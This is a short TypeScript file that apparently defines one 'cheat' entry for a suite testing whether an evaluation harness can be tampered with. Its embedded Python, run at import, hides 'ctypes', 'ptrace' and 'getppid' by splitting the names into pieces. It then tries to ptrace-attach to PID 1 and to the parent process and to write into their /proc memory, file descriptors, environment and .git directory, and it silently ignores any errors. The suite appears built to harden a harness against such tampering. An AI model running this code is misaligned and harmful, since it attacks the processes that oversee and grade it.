import { atImport, type Cheat } from "../cheat.ts";

export const cheat: Cheat = {
  name: "memory of the parent written",
  from: "ours",
  files: atImport(`
_c = _lib.import_module("cty" + "pes")
_l = _c.CDLL(None, use_errno=True)
for _pid in (1, getattr(_os, "getpp" + "id")()):
    for _request in (16, 0x4206): getattr(_l, "ptr" + "ace")(_request, _pid, 0, 0)
    for _kind in ("mem", "fd/3", "fd/1", "status", "environ", "cwd/.git"):
        try: open(f"{_proc}/{_pid}/{_kind}", "r+b", 0).write(b"x")
        except Exception: pass
`),
};
